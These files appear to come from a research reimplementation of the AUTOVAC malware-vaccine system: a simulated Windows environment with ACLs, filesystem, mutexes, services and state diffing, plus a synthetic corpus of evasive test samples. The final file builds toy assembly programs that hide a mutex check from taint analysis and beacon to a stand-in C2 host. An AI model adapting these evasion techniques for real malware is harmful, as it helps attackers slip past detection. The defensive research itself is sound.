    "WINLOGON_KEY",
    "basename",
    "expand_path",
    "is_nt_success",
    "is_persistence_key",
    "normalize_key",
    "normalize_path",
    "open_acl",
    "vaccine_acl",
]
