"""Access control for simulated system resources.

Direct-injection vaccines rely on privileges: the paper deploys e.g. the Zeus
``sdra64.exe`` file vaccine *owned by a super user* so the (low-privilege)
malware cannot delete or re-create it.  We model a small integrity-level
scheme: every process runs at an :class:`IntegrityLevel` and every resource
carries an :class:`Acl` that says which operations are allowed below the
owner's level.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import FrozenSet

from .errors import ResourceFault, Win32Error


class IntegrityLevel(enum.IntEnum):
    """Process/resource integrity levels, ordered low → system."""

    LOW = 1
    MEDIUM = 2
    HIGH = 3
    SYSTEM = 4


class Access(enum.Enum):
    """Operation classes checked against an ACL."""

    READ = "read"
    WRITE = "write"
    CREATE = "create"
    DELETE = "delete"
    EXECUTE = "execute"


#: Operations everyone may perform on a default resource.
DEFAULT_EVERYONE = frozenset(
    {Access.READ, Access.WRITE, Access.CREATE, Access.DELETE, Access.EXECUTE}
)

#: Locked-down ACL used by vaccine injection: readable, nothing else.
VACCINE_LOCKED = frozenset({Access.READ})


@dataclass(frozen=True)
class Acl:
    """Owner integrity level plus the accesses granted to lower levels.

    A requester at or above ``owner_level`` is granted everything; below it,
    only the accesses in ``everyone`` are allowed.
    """

    owner_level: IntegrityLevel = IntegrityLevel.MEDIUM
    everyone: FrozenSet[Access] = field(default_factory=lambda: DEFAULT_EVERYONE)

    def allows(self, requester: IntegrityLevel, access: Access) -> bool:
        if requester >= self.owner_level:
            return True
        return access in self.everyone

    def check(self, requester: IntegrityLevel, access: Access) -> None:
        """Raise ``ResourceFault(ACCESS_DENIED)`` unless access is allowed."""
        if not self.allows(requester, access):
            raise ResourceFault(
                Win32Error.ACCESS_DENIED,
                f"{access.value} denied below integrity {self.owner_level.name}",
            )


def open_acl(level: IntegrityLevel = IntegrityLevel.MEDIUM) -> Acl:
    """ACL granting every access to everyone (normal user resource)."""
    return Acl(owner_level=level, everyone=DEFAULT_EVERYONE)


def vaccine_acl() -> Acl:
    """System-owned, read-only ACL used when injecting vaccines."""
    return Acl(owner_level=IntegrityLevel.SYSTEM, everyone=VACCINE_LOCKED)
