"""In-memory Windows-like filesystem.

Paths are case-insensitive and backslash-separated.  The namespace is a flat
map from normalized path to :class:`FileNode`; directories are implicit but
can be materialized (the startup folder matters for Type-III persistence
detection).  Well-known locations (``%system32%`` etc.) expand like the paper's
Table III identifiers.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional

from .acl import Access, Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType

SYSTEM32 = "c:\\windows\\system32"
DRIVERS = "c:\\windows\\system32\\drivers"
STARTUP_FOLDER = (
    "c:\\documents and settings\\all users\\start menu\\programs\\startup"
)
SYSTEM_INI = "c:\\windows\\system.ini"
TEMP_DIR = "c:\\windows\\temp"

_EXPANSIONS = {
    "%system32%": SYSTEM32,
    "%windir%": "c:\\windows",
    "%temp%": TEMP_DIR,
    "%startup%": STARTUP_FOLDER,
}


def expand_path(path: str) -> str:
    """Expand ``%system32%``-style macros (as used in paper Table III)."""
    lowered = path.lower()
    for macro, real in _EXPANSIONS.items():
        if macro in lowered:
            lowered = lowered.replace(macro, real)
    return lowered


def normalize_path(path: str) -> str:
    """Canonical form: expanded, lower case, backslashes, no trailing slash."""
    p = expand_path(path).replace("/", "\\")
    while "\\\\" in p:
        p = p.replace("\\\\", "\\")
    return p.rstrip("\\") if len(p) > 3 else p


def dirname(path: str) -> str:
    p = normalize_path(path)
    idx = p.rfind("\\")
    return p[:idx] if idx > 0 else ""


def basename(path: str) -> str:
    p = normalize_path(path)
    return p[p.rfind("\\") + 1:]


@dataclass
class FileNode(Resource):
    """A regular file (or directory marker) in the simulated filesystem."""

    content: bytearray = field(default_factory=bytearray)
    is_directory: bool = False

    def __init__(
        self,
        path: str,
        content: bytes = b"",
        acl: Optional[Acl] = None,
        is_directory: bool = False,
        created_by: Optional[int] = None,
    ) -> None:
        super().__init__(
            name=normalize_path(path),
            rtype=ResourceType.FILE,
            acl=acl or open_acl(),
            created_by=created_by,
        )
        self.content = bytearray(content)
        self.is_directory = is_directory

    @property
    def size(self) -> int:
        return len(self.content)


class FileSystem:
    """Flat-namespace filesystem with ACL checks on every mutation."""

    def __init__(self) -> None:
        self._nodes: Dict[str, FileNode] = {}
        self._seed_standard_layout()

    def _seed_standard_layout(self) -> None:
        for d in (SYSTEM32, DRIVERS, STARTUP_FOLDER, TEMP_DIR):
            self._nodes[d] = FileNode(d, is_directory=True)
        self._nodes[SYSTEM_INI] = FileNode(SYSTEM_INI, content=b"[boot]\r\n")

    # -- queries ---------------------------------------------------------

    def exists(self, path: str) -> bool:
        return normalize_path(path) in self._nodes

    def lookup(self, path: str) -> Optional[FileNode]:
        return self._nodes.get(normalize_path(path))

    def listdir(self, path: str) -> List[str]:
        prefix = normalize_path(path) + "\\"
        return sorted(
            p for p in self._nodes if p.startswith(prefix) and "\\" not in p[len(prefix):]
        )

    def __iter__(self) -> Iterator[FileNode]:
        return iter(self._nodes.values())

    def __len__(self) -> int:
        return len(self._nodes)

    # -- mutations -------------------------------------------------------

    def create(
        self,
        path: str,
        requester: IntegrityLevel,
        content: bytes = b"",
        exist_ok: bool = False,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> FileNode:
        """Create a file; honours the existing node's ACL when overwriting.

        Raises ``ResourceFault(FILE_EXISTS)`` when the path exists and
        ``exist_ok`` is false — this is the check Zeus-style droppers trip
        over when a file vaccine is injected.
        """
        norm = normalize_path(path)
        existing = self._nodes.get(norm)
        if existing is not None:
            if not exist_ok:
                raise ResourceFault(Win32Error.FILE_EXISTS, norm)
            existing.acl.check(requester, Access.WRITE)
            existing.content = bytearray(content)
            return existing
        node = FileNode(norm, content=content, acl=acl, created_by=created_by)
        self._nodes[norm] = node
        return node

    def write(
        self, path: str, requester: IntegrityLevel, data: bytes, offset: Optional[int] = None
    ) -> int:
        node = self._require(path)
        node.acl.check(requester, Access.WRITE)
        if node.is_directory:
            raise ResourceFault(Win32Error.ACCESS_DENIED, "write to directory")
        if offset is None:
            node.content.extend(data)
        else:
            end = offset + len(data)
            if end > len(node.content):
                node.content.extend(b"\x00" * (end - len(node.content)))
            node.content[offset:end] = data
        return len(data)

    def read(self, path: str, requester: IntegrityLevel, offset: int = 0, size: int = -1) -> bytes:
        node = self._require(path)
        node.acl.check(requester, Access.READ)
        data = bytes(node.content[offset:])
        return data if size < 0 else data[:size]

    def delete(self, path: str, requester: IntegrityLevel) -> None:
        node = self._require(path)
        node.acl.check(requester, Access.DELETE)
        del self._nodes[node.name]

    def set_acl(self, path: str, acl: Acl) -> None:
        self._require(path).acl = acl

    def _require(self, path: str) -> FileNode:
        node = self.lookup(path)
        if node is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, normalize_path(path))
        return node

    # -- cloning (environment snapshots) ---------------------------------

    def clone(self) -> "FileSystem":
        other = FileSystem.__new__(FileSystem)
        other._nodes = {}
        for path, node in self._nodes.items():
            copy = FileNode(
                path,
                content=bytes(node.content),
                acl=node.acl,
                is_directory=node.is_directory,
                created_by=node.created_by,
            )
            other._nodes[path] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        """Plain-data rows for :class:`~repro.winenv.snapshot.EnvSnapshot`.
        Each row carries the node's full ``__dict__`` image (so dynamic
        attributes like taint tags survive) with mutable content copied to
        immutable ``bytes`` — the capture run keeps mutating live nodes."""
        rows = []
        for path, node in self._nodes.items():
            attrs = dict(vars(node))
            attrs["content"] = bytes(node.content)
            rows.append((rid_of(node), path, attrs))
        return tuple(rows)

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "FileSystem":
        # Image rebuild: ``__new__`` plus one C-level dict copy per node —
        # the constructor would only re-derive what the captured image holds
        # (paths normalized, ACLs defaulted), and restores run once per
        # candidate × mechanism (hot path).  tests/test_env_snapshot.py pins
        # attribute completeness against a constructor-built twin.
        fs = cls.__new__(cls)
        fs._nodes = _build_nodes(rows, register)
        return fs

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "FileSystem":
        """Defer the rebuild until the first namespace access — used by
        ``EnvSnapshot.restore`` when no guest handle references a node, so
        resumed runs that never touch the filesystem never pay for it."""
        fs = cls.__new__(cls)
        fs._lazy_rows = rows
        return fs

    def __getattr__(self, name: str):
        if name == "_nodes":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._nodes = nodes = _build_nodes(rows, None)
                return nodes
        raise AttributeError(name)


def _build_nodes(rows: tuple, register) -> dict:
    """Rebuild nodes from captured ``__dict__`` images.  The shared image
    dicts are never mutated; mutable content is re-copied per node."""
    nodes = {}
    new = FileNode.__new__
    for rid, path, attrs in rows:
        node = new(FileNode)
        d = dict(attrs)
        d["content"] = bytearray(attrs["content"])
        node.__dict__ = d
        nodes[path] = node
        if register is not None:
            register(rid, node)
    return nodes
