"""Win32-style status and error codes used by the simulated environment.

The real AUTOVAC labels every hooked API with its success/failure encoding
(paper Table I: e.g. ``OpenMutex`` fails with ``EAX == NULL`` and
``GetLastError() == 0x02``).  The simulated API layer reproduces those
encodings, so the constants here follow the Win32 numbering where the paper
mentions concrete values.
"""

from __future__ import annotations

import enum


class Win32Error(enum.IntEnum):
    """Subset of Win32 ``GetLastError`` codes the simulated APIs raise."""

    SUCCESS = 0x00
    FILE_NOT_FOUND = 0x02          # paper Table I: OpenMutex failure
    PATH_NOT_FOUND = 0x03
    ACCESS_DENIED = 0x05
    INVALID_HANDLE = 0x06
    NOT_ENOUGH_MEMORY = 0x08
    WRITE_PROTECT = 0x13
    SHARING_VIOLATION = 0x20
    HANDLE_EOF = 0x26
    READ_FAULT = 0x1E              # paper Table I: ReadFile failure
    FILE_EXISTS = 0x50
    INVALID_PARAMETER = 0x57
    INSUFFICIENT_BUFFER = 0x7A
    ALREADY_EXISTS = 0xB7
    MORE_DATA = 0xEA
    NO_MORE_ITEMS = 0x103
    SERVICE_ALREADY_RUNNING = 0x420
    SERVICE_EXISTS = 0x431
    SERVICE_DOES_NOT_EXIST = 0x424
    REGISTRY_KEY_NOT_FOUND = 0x02  # registry reuses FILE_NOT_FOUND
    CONNECTION_REFUSED = 0x274D    # WSAECONNREFUSED
    HOST_UNREACHABLE = 0x2751      # WSAEHOSTUNREACH


class NtStatus(enum.IntEnum):
    """NT native status codes for the ``Nt*`` API family."""

    SUCCESS = 0x00000000
    UNSUCCESSFUL = 0xC0000001
    ACCESS_DENIED = 0xC0000022
    OBJECT_NAME_NOT_FOUND = 0xC0000034
    OBJECT_NAME_COLLISION = 0xC0000035
    OBJECT_PATH_NOT_FOUND = 0xC000003A
    SHARING_VIOLATION = 0xC0000043
    PRIVILEGE_NOT_HELD = 0xC0000061
    INVALID_HANDLE = 0xC0000008


# Conventional Win32 boolean/handle encodings.
TRUE = 1
FALSE = 0
NULL = 0
INVALID_HANDLE_VALUE = 0xFFFFFFFF


class EnvironmentError_(Exception):
    """Base class for internal environment faults (not guest-visible)."""


class ResourceFault(EnvironmentError_):
    """A resource operation failed; carries the Win32 error to report.

    API implementations catch this and translate it into the API's labelled
    failure encoding (return value + last-error), never letting a Python
    exception leak into the guest.
    """

    def __init__(self, error: Win32Error, message: str = "") -> None:
        super().__init__(message or error.name)
        self.error = Win32Error(error)


def is_nt_success(status: int) -> bool:
    """NT convention: non-negative (top bit clear) status means success."""
    return (status & 0x80000000) == 0
