"""Loadable library (DLL) namespace.

Library names are exclusiveness-analysis bait: benign names like
``uxtheme.dll`` / ``msvcrt.dll`` must never become vaccines (paper §IV-A),
while malware-private DLL names can.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from .acl import Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType

#: DLLs present on every simulated machine (also in the benign corpus).
STANDARD_LIBRARIES = (
    "kernel32.dll",
    "ntdll.dll",
    "user32.dll",
    "advapi32.dll",
    "ws2_32.dll",
    "wininet.dll",
    "uxtheme.dll",
    "msvcrt.dll",
    "mscrt.dll",
    "shell32.dll",
)


@dataclass
class Library(Resource):
    """A registered DLL, loadable by name."""

    blocked: bool = False

    def __init__(self, name: str, acl: Optional[Acl] = None, created_by: Optional[int] = None) -> None:
        super().__init__(
            name=name.lower(),
            rtype=ResourceType.LIBRARY,
            acl=acl or open_acl(),
            created_by=created_by,
        )
        self.blocked = False


class LibraryManager:
    """DLL registry; ``LoadLibrary`` succeeds only for registered names."""

    def __init__(self) -> None:
        self._libs: Dict[str, Library] = {}
        for name in STANDARD_LIBRARIES:
            self._libs[name] = Library(name)

    def exists(self, name: str) -> bool:
        return name.lower() in self._libs

    def lookup(self, name: str) -> Optional[Library]:
        return self._libs.get(name.lower())

    def register(
        self, name: str, acl: Optional[Acl] = None, created_by: Optional[int] = None
    ) -> Library:
        lib = Library(name, acl=acl, created_by=created_by)
        self._libs[lib.name] = lib
        return lib

    def load(self, name: str, requester: IntegrityLevel) -> Library:
        lib = self._libs.get(name.lower())
        if lib is None or lib.blocked:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
        from .acl import Access

        lib.acl.check(requester, Access.EXECUTE)
        return lib

    def block(self, name: str) -> None:
        """Daemon-style vaccine: make a library unloadable."""
        lib = self._libs.get(name.lower())
        if lib is None:
            lib = self.register(name)
        lib.blocked = True

    def remove(self, name: str) -> None:
        self._libs.pop(name.lower(), None)

    def __iter__(self) -> Iterator[Library]:
        return iter(self._libs.values())

    def __len__(self) -> int:
        return len(self._libs)

    def clone(self) -> "LibraryManager":
        other = LibraryManager.__new__(LibraryManager)
        other._libs = {}
        for name, lib in self._libs.items():
            copy = Library(name, acl=lib.acl, created_by=lib.created_by)
            copy.blocked = lib.blocked
            other._libs[name] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        return tuple(
            (rid_of(lib), name, dict(vars(lib)))
            for name, lib in self._libs.items()
        )

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "LibraryManager":
        # Image rebuild (see FileSystem.restore_state); every library
        # attribute is immutable, so the dict update is the whole rebuild.
        lm = cls.__new__(cls)
        lm._libs = _build_libs(rows, register)
        return lm

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "LibraryManager":
        """Defer the rebuild until first access (see FileSystem.restore_lazy)."""
        lm = cls.__new__(cls)
        lm._lazy_rows = rows
        return lm

    def __getattr__(self, name: str):
        if name == "_libs":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._libs = libs = _build_libs(rows, None)
                return libs
        raise AttributeError(name)


def _build_libs(rows: tuple, register) -> dict:
    libs = {}
    new = Library.__new__
    for rid, name, attrs in rows:
        lib = new(Library)
        lib.__dict__ = dict(attrs)
        libs[name] = lib
        if register is not None:
            register(rid, lib)
    return libs
