"""Named mutex namespace.

Mutexes are the canonical infection markers (Conficker, Zeus ``_AVIRA_*``):
malware creates one to mark a machine infected and exits when ``OpenMutex``
succeeds or ``CreateMutex`` reports ``ERROR_ALREADY_EXISTS``.  A mutex vaccine
is simply pre-creating the name.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from .acl import Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType


@dataclass
class Mutex(Resource):
    """A named mutex; ownership semantics are not modelled (not needed)."""

    def __init__(
        self,
        name: str,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> None:
        super().__init__(
            name=name,
            rtype=ResourceType.MUTEX,
            acl=acl or open_acl(),
            created_by=created_by,
        )


class MutexNamespace:
    """Global named-mutex table (names are case-sensitive, as on Windows)."""

    def __init__(self) -> None:
        self._mutexes: Dict[str, Mutex] = {}

    def exists(self, name: str) -> bool:
        return name in self._mutexes

    def lookup(self, name: str) -> Optional[Mutex]:
        return self._mutexes.get(name)

    def create(
        self,
        name: str,
        requester: IntegrityLevel,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> "tuple[Mutex, bool]":
        """Create or open a mutex.

        Returns ``(mutex, already_existed)`` mirroring ``CreateMutex``'s
        ``ERROR_ALREADY_EXISTS`` signalling.
        """
        existing = self._mutexes.get(name)
        if existing is not None:
            return existing, True
        mutex = Mutex(name, acl=acl, created_by=created_by)
        self._mutexes[name] = mutex
        return mutex, False

    def open(self, name: str) -> Mutex:
        mutex = self._mutexes.get(name)
        if mutex is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
        return mutex

    def release(self, name: str) -> None:
        self._mutexes.pop(name, None)

    def __iter__(self) -> Iterator[Mutex]:
        return iter(self._mutexes.values())

    def __len__(self) -> int:
        return len(self._mutexes)

    def clone(self) -> "MutexNamespace":
        other = MutexNamespace()
        for name, mutex in self._mutexes.items():
            copy = Mutex(name, acl=mutex.acl, created_by=mutex.created_by)
            other._mutexes[name] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        return tuple(
            (rid_of(mutex), name, dict(vars(mutex)))
            for name, mutex in self._mutexes.items()
        )

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "MutexNamespace":
        # Image rebuild (see FileSystem.restore_state); every mutex
        # attribute is immutable, so the dict copy is the whole rebuild.
        ns = cls.__new__(cls)
        ns._mutexes = _build_mutexes(rows, register)
        return ns

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "MutexNamespace":
        """Defer the rebuild until first access (see FileSystem.restore_lazy)."""
        ns = cls.__new__(cls)
        ns._lazy_rows = rows
        return ns

    def __getattr__(self, name: str):
        if name == "_mutexes":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._mutexes = mutexes = _build_mutexes(rows, None)
                return mutexes
        raise AttributeError(name)


def _build_mutexes(rows: tuple, register) -> dict:
    mutexes = {}
    new = Mutex.__new__
    for rid, name, attrs in rows:
        mutex = new(Mutex)
        mutex.__dict__ = dict(attrs)
        mutexes[name] = mutex
        if register is not None:
            register(rid, mutex)
    return mutexes
