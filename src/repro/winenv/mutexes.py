"""Named mutex namespace.

Mutexes are the canonical infection markers (Conficker, Zeus ``_AVIRA_*``):
malware creates one to mark a machine infected and exits when ``OpenMutex``
succeeds or ``CreateMutex`` reports ``ERROR_ALREADY_EXISTS``.  A mutex vaccine
is simply pre-creating the name.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from .acl import Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType


@dataclass
class Mutex(Resource):
    """A named mutex; ownership semantics are not modelled (not needed)."""

    def __init__(
        self,
        name: str,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> None:
        super().__init__(
            name=name,
            rtype=ResourceType.MUTEX,
            acl=acl or open_acl(),
            created_by=created_by,
        )


class MutexNamespace:
    """Global named-mutex table (names are case-sensitive, as on Windows)."""

    def __init__(self) -> None:
        self._mutexes: Dict[str, Mutex] = {}

    def exists(self, name: str) -> bool:
        return name in self._mutexes

    def lookup(self, name: str) -> Optional[Mutex]:
        return self._mutexes.get(name)

    def create(
        self,
        name: str,
        requester: IntegrityLevel,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> "tuple[Mutex, bool]":
        """Create or open a mutex.

        Returns ``(mutex, already_existed)`` mirroring ``CreateMutex``'s
        ``ERROR_ALREADY_EXISTS`` signalling.
        """
        existing = self._mutexes.get(name)
        if existing is not None:
            return existing, True
        mutex = Mutex(name, acl=acl, created_by=created_by)
        self._mutexes[name] = mutex
        return mutex, False

    def open(self, name: str) -> Mutex:
        mutex = self._mutexes.get(name)
        if mutex is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
        return mutex

    def release(self, name: str) -> None:
        self._mutexes.pop(name, None)

    def __iter__(self) -> Iterator[Mutex]:
        return iter(self._mutexes.values())

    def __len__(self) -> int:
        return len(self._mutexes)

    def clone(self) -> "MutexNamespace":
        other = MutexNamespace()
        for name, mutex in self._mutexes.items():
            copy = Mutex(name, acl=mutex.acl, created_by=mutex.created_by)
            other._mutexes[name] = copy
        return other
