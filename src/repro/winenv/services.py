"""Service Control Manager (SCM) model.

Service creation is both a persistence vector (Type III) and — when the binary
path ends in ``.sys`` — the paper's Type-I kernel-injection signal.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from .acl import Access, Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType


class ServiceState(enum.Enum):
    STOPPED = "stopped"
    RUNNING = "running"


@dataclass
class Service(Resource):
    """A registered service with its binary path and run state."""

    binary_path: str = ""
    state: ServiceState = ServiceState.STOPPED
    is_kernel_driver: bool = False

    def __init__(
        self,
        name: str,
        binary_path: str,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> None:
        super().__init__(
            name=name.lower(),
            rtype=ResourceType.SERVICE,
            acl=acl or open_acl(),
            created_by=created_by,
        )
        self.binary_path = binary_path.lower()
        self.state = ServiceState.STOPPED
        self.is_kernel_driver = self.binary_path.endswith(".sys")


class ServiceManager:
    """SCM: registers/starts/stops/deletes services."""

    def __init__(self) -> None:
        self._services: Dict[str, Service] = {}
        # Seed a couple of standard services benign software expects.
        for name, path in (
            ("eventlog", "c:\\windows\\system32\\svchost.exe"),
            ("dhcp", "c:\\windows\\system32\\svchost.exe"),
        ):
            svc = Service(name, path)
            svc.state = ServiceState.RUNNING
            self._services[name] = svc

    def exists(self, name: str) -> bool:
        return name.lower() in self._services

    def lookup(self, name: str) -> Optional[Service]:
        return self._services.get(name.lower())

    def create(
        self,
        name: str,
        binary_path: str,
        requester: IntegrityLevel,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> Service:
        key = name.lower()
        if key in self._services:
            raise ResourceFault(Win32Error.SERVICE_EXISTS, key)
        if requester < IntegrityLevel.MEDIUM:
            raise ResourceFault(Win32Error.ACCESS_DENIED, "service creation needs medium+")
        svc = Service(name, binary_path, acl=acl, created_by=created_by)
        self._services[key] = svc
        return svc

    def open(self, name: str) -> Service:
        svc = self._services.get(name.lower())
        if svc is None:
            raise ResourceFault(Win32Error.SERVICE_DOES_NOT_EXIST, name)
        return svc

    def start(self, name: str, requester: IntegrityLevel) -> Service:
        svc = self.open(name)
        svc.acl.check(requester, Access.EXECUTE)
        if svc.state is ServiceState.RUNNING:
            raise ResourceFault(Win32Error.SERVICE_ALREADY_RUNNING, name)
        svc.state = ServiceState.RUNNING
        return svc

    def stop(self, name: str, requester: IntegrityLevel) -> Service:
        svc = self.open(name)
        svc.state = ServiceState.STOPPED
        return svc

    def delete(self, name: str, requester: IntegrityLevel) -> None:
        svc = self.open(name)
        svc.acl.check(requester, Access.DELETE)
        del self._services[svc.name]

    def set_acl(self, name: str, acl: Acl) -> None:
        self.open(name).acl = acl

    def __iter__(self) -> Iterator[Service]:
        return iter(self._services.values())

    def __len__(self) -> int:
        return len(self._services)

    def clone(self) -> "ServiceManager":
        other = ServiceManager.__new__(ServiceManager)
        other._services = {}
        for key, svc in self._services.items():
            copy = Service(svc.name, svc.binary_path, acl=svc.acl, created_by=svc.created_by)
            copy.state = svc.state
            other._services[key] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        return tuple(
            (rid_of(svc), key, dict(vars(svc)))
            for key, svc in self._services.items()
        )

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "ServiceManager":
        # Image rebuild (see FileSystem.restore_state); the captured image
        # already carries the derived ``is_kernel_driver`` flag.
        scm = cls.__new__(cls)
        scm._services = _build_services(rows, register)
        return scm

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "ServiceManager":
        """Defer the rebuild until first access (see FileSystem.restore_lazy)."""
        scm = cls.__new__(cls)
        scm._lazy_rows = rows
        return scm

    def __getattr__(self, name: str):
        if name == "_services":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._services = services = _build_services(rows, None)
                return services
        raise AttributeError(name)


def _build_services(rows: tuple, register) -> dict:
    services = {}
    new = Service.__new__
    for rid, key, attrs in rows:
        svc = new(Service)
        svc.__dict__ = dict(attrs)
        services[key] = svc
        if register is not None:
            register(rid, svc)
    return services
