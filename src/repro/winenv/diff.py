"""Environment diffing — infection forensics.

Compares two machine states (typically a pristine clone vs the machine after
a sample ran) and lists every resource the sample created, removed or
modified.  Used to validate corpus behaviour, to double-check vaccine
injections, and by tests asserting "the malware changed nothing".
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Set, Tuple

from .environment import SystemEnvironment


@dataclass
class NamespaceDiff:
    """Changes within one resource namespace."""

    added: List[str] = field(default_factory=list)
    removed: List[str] = field(default_factory=list)
    modified: List[str] = field(default_factory=list)

    @property
    def changed(self) -> bool:
        return bool(self.added or self.removed or self.modified)

    def summary(self) -> str:
        return (f"+{len(self.added)} -{len(self.removed)} "
                f"~{len(self.modified)}")


@dataclass
class EnvironmentDiff:
    """Full machine-state delta keyed by namespace."""

    namespaces: Dict[str, NamespaceDiff] = field(default_factory=dict)

    @property
    def changed(self) -> bool:
        return any(ns.changed for ns in self.namespaces.values())

    def added(self, namespace: str) -> List[str]:
        return self.namespaces.get(namespace, NamespaceDiff()).added

    def all_added(self) -> List[Tuple[str, str]]:
        return [
            (name, identifier)
            for name, ns in sorted(self.namespaces.items())
            for identifier in ns.added
        ]

    def render(self) -> str:
        lines = []
        for name, ns in sorted(self.namespaces.items()):
            if not ns.changed:
                continue
            lines.append(f"{name}: {ns.summary()}")
            for identifier in ns.added:
                lines.append(f"  + {identifier}")
            for identifier in ns.removed:
                lines.append(f"  - {identifier}")
            for identifier in ns.modified:
                lines.append(f"  ~ {identifier}")
        return "\n".join(lines) if lines else "(no changes)"


def _diff_sets(before: Set[str], after: Set[str]) -> NamespaceDiff:
    return NamespaceDiff(
        added=sorted(after - before),
        removed=sorted(before - after),
    )


def environment_diff(before: SystemEnvironment, after: SystemEnvironment) -> EnvironmentDiff:
    """Structural diff of two machine states (``before`` is typically a
    pristine clone taken prior to running a sample)."""
    diff = EnvironmentDiff()

    files_before = {n.name: bytes(n.content) for n in before.filesystem}
    files_after = {n.name: bytes(n.content) for n in after.filesystem}
    file_diff = _diff_sets(set(files_before), set(files_after))
    file_diff.modified = sorted(
        name for name in set(files_before) & set(files_after)
        if files_before[name] != files_after[name]
    )
    diff.namespaces["files"] = file_diff

    keys_before = {k.name: dict(k.values) for k in before.registry}
    keys_after = {k.name: dict(k.values) for k in after.registry}
    reg_diff = _diff_sets(set(keys_before), set(keys_after))
    reg_diff.modified = sorted(
        name for name in set(keys_before) & set(keys_after)
        if keys_before[name] != keys_after[name]
    )
    diff.namespaces["registry"] = reg_diff

    diff.namespaces["mutexes"] = _diff_sets(
        {m.name for m in before.mutexes}, {m.name for m in after.mutexes}
    )
    diff.namespaces["services"] = _diff_sets(
        {s.name for s in before.services}, {s.name for s in after.services}
    )
    diff.namespaces["windows"] = _diff_sets(
        {w.name for w in before.windows}, {w.name for w in after.windows}
    )
    diff.namespaces["libraries"] = _diff_sets(
        {l.name for l in before.libraries}, {l.name for l in after.libraries}
    )
    diff.namespaces["processes"] = _diff_sets(
        {p.name for p in before.processes if p.alive},
        {p.name for p in after.processes if p.alive},
    )
    return diff
