"""Evasion corpus (paper §VII limitations).

``build_control_dependence_evader`` reproduces the documented blind spot:
the malware converts the resource-check result into a *computed jump target*
instead of comparing it, so no tainted ``cmp``/``test`` predicate ever fires
and Phase I filters the sample even though it is resource-sensitive.  The
limitation bench demonstrates the pipeline missing it, as the paper predicts.

``build_index_launder_evader`` is the data-flow variant the paper lists as
future work ("future malware could deliberately introduce additional data
propagation"): the tainted check result is laundered through a table lookup
(the loaded byte carries no taint under pure data-flow policy).  The
pointer-taint option (``taint_addresses=True``) recovers it.
"""

from __future__ import annotations

from ..vm.program import Program
from .builder import AsmBuilder, frag_beacon, frag_create_mutex, frag_exit

FAMILY = "evasive_controldep"
CATEGORY = "backdoor"


def build_control_dependence_evader() -> Program:
    """OpenMutex result steers a computed jump, never a predicate.

    Handle values are ``0x100 + 4k``; NULL is 0.  ``shr eax, 8`` then
    clamping via ``and`` maps {absent: 0, present: >=1} to a jump-table
    index without any comparison instruction touching tainted data.
    """
    b = AsmBuilder(FAMILY)
    name = b.string("cd_evader_mtx")

    b.call("OpenMutexA", "0x1F0001", "0", name)
    # eax: 0 (absent) or >= 0x100 (present) -> index 0/1 without cmp/test.
    b.emit(
        "    shr eax, 8",
        "    and eax, 1",
        "    imul eax, 2",            # entries are 2 instructions apart
        "    add eax, dispatch",
        "    jmp eax",
    )
    b.label("dispatch")
    b.emit("    jmp not_infected")    # index 0: proceed
    b.emit("    nop")
    b.emit("    jmp infected")        # index 1: bail out

    b.label("not_infected")
    frag_create_mutex(b, "cd_evader_mtx")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="EVADE")
    b.emit("    halt")

    b.label("infected")
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, evasive=True)


def build_index_launder_evader() -> Program:
    """Launders the marker-check result through a table lookup.

    ``eax`` (tainted handle) is folded to an index 0/1; the *loaded table
    byte* — untainted under pure data-flow taint — feeds the predicate.
    """
    b = AsmBuilder("evasive_indexlaunder")
    name = b.string("il_evader_mtx")
    b._data.append("jumptbl: .byte 0, 1")

